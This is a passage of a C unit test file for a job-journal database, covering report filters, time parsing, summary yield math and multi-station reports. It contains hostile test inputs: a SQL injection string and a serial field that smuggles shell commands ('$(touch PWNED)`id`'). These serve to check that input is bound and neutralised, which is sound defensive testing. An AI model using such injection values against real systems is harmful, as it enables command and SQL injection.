	flt.serial = "x,\"y\"";
	check_jobs(j, &flt, WHAT_JOBS, "6");
	flt.serial = "S";
	check_jobs(j, &flt, WHAT_JOBS, "");
	/* Values are bound, never pasted into the SQL. */
	flt.serial = "' OR 1=1 --";
	check_jobs(j, &flt, WHAT_JOBS, "");
	flt = (struct report_filter){ .outcome = "ignored" };
	check_jobs(j, &flt, WHAT_JOBS, "5");
	journal_close(j);
}

static void test_history_order(void **state)
{
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct report_filter flt = { .serial = "S1" };
	char *buf;

	fill_filters(f->path, j);
	check_jobs(j, &flt, WHAT_HISTORY, "1,3,4");
	flt.outcome = "success";
	check_jobs(j, &flt, WHAT_HISTORY, "1,4");
	/* The table has no STATION column for one journal, as before. */
	buf = report_f(j, &flt, WHAT_HISTORY, REPORT_TABLE, NULL);
	assert_true(strncmp(buf, "JOB  STARTED", 12) == 0);
	assert_null(strstr(buf, "STATION"));
	free(buf);
	journal_close(j);
}

static void test_parse_time(void **state)
{
	char buf[JOURNAL_TIME_MAX], want[JOURNAL_TIME_MAX];
	struct tm tm;
	time_t t;

	(void)state;
	assert_int_equal(journal_parse_time("2026-11-26", false, buf), 0);
	assert_string_equal(buf, "2026-11-26T00:00:00.000Z");
	assert_int_equal(journal_parse_time("2026-11-26", true, buf), 0);
	assert_string_equal(buf, "2026-11-27T00:00:00.000Z");
	assert_int_equal(journal_parse_time("2026-12-31", true, buf), 0);
	assert_string_equal(buf, "2027-01-01T00:00:00.000Z");
	assert_int_equal(journal_parse_time("2028-02-29Z", false, buf), 0);
	assert_string_equal(buf, "2028-02-29T00:00:00.000Z");
	assert_int_equal(journal_parse_time("2026-11-26T05:07", true, buf), 0);
	assert_string_equal(buf, "2026-11-26T05:07:00.000Z");
	assert_int_equal(journal_parse_time("2026-11-26T05:07:09Z", false, buf), 0);
	assert_string_equal(buf, "2026-11-26T05:07:09.000Z");
	assert_int_equal(journal_parse_time("2026-11-26 05:07:09", false, buf), 0);
	assert_string_equal(buf, "2026-11-26T05:07:09.000Z");

	t = time(NULL);
	gmtime_r(&t, &tm);
	strftime(want, sizeof(want), "%Y-%m-%dT00:00:00.000Z", &tm);
	assert_int_equal(journal_parse_time("today", false, buf), 0);
	/* (At midnight the day may just have turned.) */
	if (strcmp(buf, want) != 0)
		fprintf(stderr, "today: %s vs %s\n", buf, want);
	t -= 86400;
	gmtime_r(&t, &tm);
	strftime(want, sizeof(want), "%Y-%m-%dT00:00:00.000Z", &tm);
	assert_int_equal(journal_parse_time("yesterday", false, buf), 0);
	assert_int_equal(journal_parse_time("today", true, want), 0);
	assert_true(strcmp(buf, want) < 0);

	static const char *const bad[] = {
		"", "2026", "2026-11", "2026-13-01", "2026-02-30", "2027-02-29", "2026-11-26T",
		"2026-11-26T5:00", "2026-11-26T24:00", "2026-11-26T05:60", "2026-11-26T05:00:61",
		"2026-11-26T05:00+01:00", "2026-11-26Zx", "26-11-2026", "tomorrow", "1969-12-31",
		"2026-11-26T05:00:00.5Z", " 2026-11-26",
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (journal_parse_time(bad[i], false, buf) != -EINVAL)
			fail_msg("'%s' was accepted as %s", bad[i], buf);
}

/* One summary CSV row by day and profile, or NULL. */
static const struct csv_row *summary_row(struct csv_row *rows, size_t n, const char *day,
					 const char *profile)
{
	for (size_t r = 1; r < n; r++)
		if (strcmp(csv_get(rows, r, "day")->s, day) == 0 &&
		    strcmp(csv_get(rows, r, "profile")->s, profile) == 0)
			return &rows[r];
	return NULL;
}

static void check_summary(struct csv_row *rows, size_t n, const char *day, const char *profile,
			  const char *col, const char *want)
{
	const struct csv_row *row = summary_row(rows, n, day, profile);

	if (!row)
		fail_msg("no summary row %s %s", day, profile);
	check_csv(rows, (size_t)(row - rows), col, want);
}

/*
 * The live view's day counted refused cards as failed, report --summary
 * leaves refused and interrupted jobs out: one yield now, for both.
 */
static void test_today_yield_is_the_summary_yield(void **state)
{
	static const enum outcome all[] = {
		OUTCOME_SUCCESS, OUTCOME_SUCCESS, OUTCOME_SUCCESS, OUTCOME_FAILED,
		OUTCOME_VERIFY_FAILED, OUTCOME_REMOVED, OUTCOME_TIMEOUT, OUTCOME_INTERRUPTED,
		OUTCOME_REFUSED, OUTCOME_REFUSED, OUTCOME_IGNORED,
	};
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct day_counts c = { 0 };
	struct report_filter flt = { .since = NULL };
	char since[JOURNAL_TIME_MAX], *buf = NULL;
	struct csv_row *rows;
	size_t len = 0, n;
	FILE *out;

	assert_int_equal(journal_today(j, &c), 0);
	assert_true(c.yield_pct < 0); /* nothing ended yet */
	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++)
		add_job(j, "l", "pi", "a", "s", all[i]);
	assert_int_equal(journal_today(j, &c), 0);
	assert_int_equal(c.flashed, 10);
	assert_int_equal(c.passed, 3);
	assert_int_equal(c.failed, 4);
	assert_int_equal(c.refused, 2);
	assert_int_equal(c.interrupted, 1);
	assert_true(fabs(c.yield_pct - 42.9) < 1e-9); /* 3 of 7 */

	assert_int_equal(journal_parse_time("today", false, since), 0);
	flt.since = since;
	out = open_memstream(&buf, &len);
	assert_non_null(out);
	assert_int_equal(journal_summary(j, &flt, REPORT_CSV, out), 0);
	assert_int_equal(fclose(out), 0);
	n = csv_parse(buf, len, &rows);
	assert_int_equal(n, 2);
	assert_string_equal(rows[0].f[10].s, "yield_pct");
	assert_string_equal(rows[1].f[10].s, "42.9");
	csv_free(rows, n);
	free(buf);
	journal_close(j);
}

static void test_summary_math(void **state)
{
	static const char *const header =
		"day,profile,cards,passed,failed,verify_failed,removed,timeout,interrupted,"
		"refused,yield_pct,median_s,p95_s,median_mbps\n";
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct csv_row *rows;
	char started[40], *buf, *file, *lines;
	size_t len, n;
	int64_t job;

	/*
	 * Day 1, "pi": successes of 40, 10, 30, 20 s (median 25, p95 rank
	 * ceil(3.8) = 4: 40) at 4, 1, 3, 2 MB/s (median 2.5); one each of
	 * failed, verify_failed, removed, timeout, interrupted, refused, ignored.
	 * cards = 10 (not the ignored one); yield = 4 / 8 = 50.0.
	 */
	static const double dur[] = { 40, 10, 30, 20 };
	for (int i = 0; i < 4; i++) {
		job = add_job(j, "l", "pi", "a", "s", OUTCOME_SUCCESS);
		snprintf(started, sizeof(started), "2026-11-25T0%d:00:00.000Z", i);
		set_times(f->path, job, started, dur[i], 1e6 * dur[i] / 10);
	}
	static const enum outcome bad[] = {
		OUTCOME_FAILED, OUTCOME_VERIFY_FAILED, OUTCOME_REMOVED, OUTCOME_TIMEOUT,
		OUTCOME_INTERRUPTED, OUTCOME_REFUSED, OUTCOME_IGNORED,
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		job = add_job(j, "l", "pi", "a", "s", bad[i]);
		/* Failures are fast; they must not count in the durations. */
		set_times(f->path, job, "2026-11-25T23:59:59.999Z", 1, 1e9);
	}
	/* Day 2, "pi": 20 successes of 1..20 s: median 10.5, p95 rank 19: 19. */
	for (int i = 1; i <= 20; i++) {
		job = add_job(j, "l", "pi", "a", "s", OUTCOME_SUCCESS);
		set_times(f->path, job, "2026-11-26T00:00:00.000Z", i, 2e6 * i);
	}
	/* Day 2, "big": 5 successes of 1..5 (odd: median 3, p95 5), 1 failure. */
	for (int i = 5; i >= 1; i--) {
		job = add_job(j, "l", "big", "a", "s", OUTCOME_SUCCESS);
		set_times(f->path, job, "2026-11-26T23:00:00.000Z", i, 1.5e6);
	}
	job = add_job(j, "l", "big", "a", "s", OUTCOME_FAILED);
	set_times(f->path, job, "2026-11-26T23:00:00.000Z", -1, -1);
	/* Day 3, "pi": only refusals and ignored cards: no yield, no durations. */
	job = add_job(j, "l", "pi", "a", "s", OUTCOME_REFUSED);
	set_times(f->path, job, "2026-11-27T08:00:00.000Z", 0, -1);
	job = add_job(j, "l", "pi", "a", "s", OUTCOME_IGNORED);
	set_times(f->path, job, "2026-11-27T08:00:00.000Z", 0, -1);
	/* A day with only an ignored card has no row at all. */
	job = add_job(j, "l", "pi", "a", "s", OUTCOME_IGNORED);
	set_times(f->path, job, "2026-11-28T08:00:00.000Z", 0, -1);

	buf = report_f(j, NULL, WHAT_SUMMARY, REPORT_CSV, &len);
	assert_true(strncmp(buf, header, strlen(header)) == 0);
	n = csv_parse(buf, len, &rows);
	assert_int_equal(n, 1 + 4);
	/* Oldest day first, then profile. */
	check_csv(rows, 1, "day", "2026-11-25");
	check_csv(rows, 2, "profile", "big");
	check_csv(rows, 3, "profile", "pi");
	check_csv(rows, 4, "day", "2026-11-27");

	check_summary(rows, n, "2026-11-25", "pi", "cards", "10");
	check_summary(rows, n, "2026-11-25", "pi", "passed", "4");
	static const char *const one[] = { "failed",	  "verify_failed", "removed",
					   "timeout",	  "interrupted",   "refused" };
	for (size_t i = 0; i < 6; i++)
		check_summary(rows, n, "2026-11-25", "pi", one[i], "1");
	check_summary(rows, n, "2026-11-25", "pi", "yield_pct", "50.0");
	check_summary(rows, n, "2026-11-25", "pi", "median_s", "25.0");
	check_summary(rows, n, "2026-11-25", "pi", "p95_s", "40.0");
	check_summary(rows, n, "2026-11-25", "pi", "median_mbps", "2.5");

	check_summary(rows, n, "2026-11-26", "pi", "cards", "20");
	check_summary(rows, n, "2026-11-26", "pi", "yield_pct", "100.0");
	check_summary(rows, n, "2026-11-26", "pi", "median_s", "10.5");
	check_summary(rows, n, "2026-11-26", "pi", "p95_s", "19.0");
	check_summary(rows, n, "2026-11-26", "pi", "median_mbps", "21.0");

	check_summary(rows, n, "2026-11-26", "big", "cards", "6");
	check_summary(rows, n, "2026-11-26", "big", "failed", "1");
	check_summary(rows, n, "2026-11-26", "big", "refused", "0");
	check_summary(rows, n, "2026-11-26", "big", "yield_pct", "83.3");
	check_summary(rows, n, "2026-11-26", "big", "median_s", "3.0");
	check_summary(rows, n, "2026-11-26", "big", "p95_s", "5.0");
	check_summary(rows, n, "2026-11-26", "big", "median_mbps", "1.5");

	check_summary(rows, n, "2026-11-27", "pi", "cards", "1");
	check_summary(rows, n, "2026-11-27", "pi", "refused", "1");
	check_summary(rows, n, "2026-11-27", "pi", "yield_pct", "");
	check_summary(rows, n, "2026-11-27", "pi", "median_s", "");
	csv_free(rows, n);
	free(buf);

	/* Filters apply before grouping. */
	buf = report_f(j, &(struct report_filter){ .profile = "big" }, WHAT_SUMMARY, REPORT_CSV,
		       &len);
	n = csv_parse(buf, len, &rows);
	assert_int_equal(n, 2);
	check_csv(rows, 1, "cards", "6");
	csv_free(rows, n);
	free(buf);

	/* JSON: valid, numbers as numbers, null where there is no value. */
	buf = report_f(j, NULL, WHAT_SUMMARY, REPORT_JSON, &len);
	file = tu_path(f->dir, "summary.json");
	tu_write_file(file, buf, len);
	lines = python_json(file);
	assert_true(json_has(lines, 0, " cards=int:10 "));
	assert_true(json_has(lines, 0, " yield_pct=float:50.0 "));
	assert_true(json_has(lines, 0, " p95_s=float:40.0 "));
	assert_true(json_has(lines, 3, " yield_pct=null "));
	free(lines);
	free(file);
	free(buf);

	/* Table: a header, one line per row. */
	buf = report_f(j, NULL, WHAT_SUMMARY, REPORT_TABLE, &len);
	assert_true(strncmp(buf, "DAY         PROFILE  CARDS", 26) == 0);
	assert_non_null(strstr(buf, "YIELD%"));
	assert_non_null(strstr(buf, " 83.3 "));
	free(buf);
	journal_close(j);
}

static void test_multi_db(void **state)
{
	struct fixture *f = *state;
	char *p2 = tu_path(f->dir, "two.db"), *p3 = tu_path(f->dir, "missing.db"), *err = NULL;
	char *buf;
	struct journal *j, *j2;
	struct csv_row *rows;
	size_t len, n;
	int64_t a1, a2, b1, b2;

	j = open_rw(f->path);
	j2 = open_rw(p2);
	a1 = add_job(j, "line-1", "pi", "a", "S1", OUTCOME_SUCCESS);
	a2 = add_job(j, "line-1", "pi", "a", "S2", OUTCOME_FAILED);
	b1 = add_job(j2, "line-2", "pi", "a", "S1", OUTCOME_SUCCESS);
	b2 = add_job(j2, "line-2", "pi", "b", "S3", OUTCOME_SUCCESS);
	/* The same job numbers on both stations. */
	assert_int_equal(a1, b1);
	assert_int_equal(a2, b2);
	set_times(f->path, a1, "2026-11-26T01:00:00.000Z", 10, 1e6);
	set_times(p2, b1, "2026-11-26T02:00:00.000Z", 10, 1e6);
	set_times(f->path, a2, "2026-11-26T03:00:00.000Z", 10, 1e6);
	set_times(p2, b2, "2026-11-26T04:00:00.000Z", 10, 1e6);
	journal_close(j);
	journal_close(j2);

	j = open_ro(f->path);
	assert_int_equal(journal_attach(j, p2, &err), 0);
	assert_null(err);
	/* Ordered by start time; station always in CSV. */
	buf = report_f(j, NULL, WHAT_JOBS, REPORT_CSV, &len);
	n = csv_parse(buf, len, &rows);
	assert_int_equal(n, 5);
	check_csv(rows, 1, "station", "line-2");
	check_csv(rows, 1, "serial", "S3");
	check_csv(rows, 2, "station", "line-1");
	check_csv(rows, 3, "station", "line-2");
	check_csv(rows, 4, "station", "line-1");
	check_csv(rows, 4, "serial", "S1");
	csv_free(rows, n);
	free(buf);
	/* History across stations, oldest first. */
	check_jobs(j, &(struct report_filter){ .serial = "S1" }, WHAT_HISTORY, "1,1");
	buf = report_f(j, &(struct report_filter){ .serial = "S1" }, WHAT_HISTORY, REPORT_CSV,
		       &len);
	n = csv_parse(buf, len, &rows);
	assert_int_equal(n, 3);
	check_csv(rows, 1, "station", "line-1");
	check_csv(rows, 2, "station", "line-2");
	csv_free(rows, n);
	free(buf);
	/* The table names the station. */
	buf = report_f(j, NULL, WHAT_JOBS, REPORT_TABLE, NULL);
	assert_true(strncmp(buf, "JOB  STATION  STARTED", 21) == 0);
	assert_non_null(strstr(buf, "line-2"));
	free(buf);
	/* The summary counts both. */
	buf = report_f(j, NULL, WHAT_SUMMARY, REPORT_CSV, &len);
	n = csv_parse(buf, len, &rows);
	assert_int_equal(n, 2);
	check_csv(rows, 1, "cards", "4");
	check_csv(rows, 1, "passed", "3");
	csv_free(rows, n);
	free(buf);

	/* A missing journal is an error naming it, and changes nothing. */
	assert_true(journal_attach(j, p3, &err) < 0);
	assert_non_null(err);
	assert_non_null(strstr(err, "missing.db"));
	free(err);
	check_jobs(j, NULL, WHAT_JOBS, "2,2,1,1");
	journal_close(j);
	free(p2);
	free(p3);
}

/*
 * For tests/integration/report.sh: a journal with known contents at @path
 * (every row from @station when given), written through this API so that
 * the schema lives in journal.c alone.
 */
static int write_fixture(const char *path, const char *station)
{
	static const struct {
		const char *station, *profile, *slot, *serial, *started;
		enum outcome o;
		double duration, throughput;
	} rows[] = {
		{ "line-1", "pi", "slot-a", "A1", "2026-11-25T10:00:00.000Z", OUTCOME_SUCCESS, 20, 5e6 },
		{ "line-1", "pi", "slot-b", "x,\"q\"\n$(touch PWNED)`id`", "2026-11-25T11:00:00.000Z",
		  OUTCOME_SUCCESS, 40, 10e6 },
		{ "line-1", "pi", "slot-a", "A1", "2026-11-26T05:00:00.000Z", OUTCOME_VERIFY_FAILED,
		  30, 4e6 },
		{ "line-1", "other", "slot-b", "B2", "2026-11-26T06:00:00.000Z", OUTCOME_REFUSED, 0,
		  -1 },
		{ "line-1", "pi", "slot-a", "A1", "2026-11-26T07:00:00.000Z", OUTCOME_SUCCESS, 10, 3e6 },
		{ "line-1", "pi", "slot-b", "C3", "2026-11-26T08:00:00.000Z", OUTCOME_IGNORED, 0, -1 },
	};
	struct journal *j = NULL;
	char *err = NULL;
	int64_t job;

	if (journal_open(path, false, &j, &err) < 0) {
		fprintf(stderr, "%s\n", err);
		return 1;
	}
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct job_start s = plain_start();
		struct job_end e = { .outcome = rows[i].o,
				     .error = rows[i].o == OUTCOME_SUCCESS ? NULL : "why, \"this\"",
				     .bytes_written = 1000 };
		sqlite3 *db;
		sqlite3_stmt *st = NULL;

		s.station = station ? station : rows[i].station;
		s.profile = rows[i].profile;
		s.slot = rows[i].slot;
		s.serial = rows[i].serial;
		if (journal_job_once(j, &s, &e, &job) < 0) {
			fprintf(stderr, "%s\n", journal_error(j));
			return 1;
		}
		if (sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL) != SQLITE_OK)
			return 1;
		sqlite3_busy_timeout(db, 5000);
		if (sqlite3_prepare_v2(db,
				       "UPDATE jobs SET started = ?1, finished = ?1, duration = ?2,"
				       " throughput = ?3 WHERE job = ?4",
				       -1, &st, NULL) != SQLITE_OK)
			return 1;
		sqlite3_bind_text(st, 1, rows[i].started, -1, SQLITE_STATIC);
		sqlite3_bind_double(st, 2, rows[i].duration);
		if (rows[i].throughput >= 0)
			sqlite3_bind_double(st, 3, rows[i].throughput);
		sqlite3_bind_int64(st, 4, job);
		if (sqlite3_step(st) != SQLITE_DONE)
			return 1;
		sqlite3_finalize(st);
		sqlite3_close(db);
	}
	journal_close(j);
	return 0;
}

int main(int argc, char **argv)
{
#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
	const struct CMUnitTest tests[] = {
		T(test_start_end_roundtrip),
		T(test_unknowns_are_null),
		T(test_end_unknown_or_finished_fails),
		T(test_once),
		T(test_interrupt_running),
		T(test_card_skipped_after_reboot),
		T(test_second_station_refused),
		T(test_version_and_reopen),
		T(test_serial_passed_and_forget),
		T(test_migrate_from_v1),
		T(test_migrate_from_v4),
		T(test_migrate_from_v5_signer),
		T(test_damaged_journal_refused),
		T(test_truncated_journal_not_recreated),
		T(test_fifo_journal_refused),
		T(test_damage_found_while_open),
		T(test_newer_version_refused),
		T(test_foreign_database_refused),
		T(test_open_errors_name_the_file),
		T(test_readonly_while_writer_open),
		T(test_readonly_unwritable_dir),
		T(test_concurrent_reader),
		T(test_busy_writer_waits),
		T(test_csv_hostile),
		T(test_csv_formula_neutralised),
		T(test_json_hostile),
		T(test_table_hostile),
		T(test_status_long_serial_keeps_columns),
		T(test_report_filters),
		T(test_history_order),
		T(test_parse_time),
		T(test_summary_math),
		T(test_today_yield_is_the_summary_yield),
		T(test_multi_db),
	};

	/* test_journal --write-fixture PATH [STATION]: see write_fixture(). */
	if ((argc == 3 || argc == 4) && strcmp(argv[1], "--write-fixture") == 0)
		return write_fixture(argv[2], argc == 4 ? argv[3] : NULL);

#undef T
	/* JOURNAL_TEST=NAME runs the tests whose names match (a glob). */
	if (getenv("JOURNAL_TEST"))
		cmocka_set_test_filter(getenv("JOURNAL_TEST"));
	return cmocka_run_group_tests(tests, NULL, NULL);
}
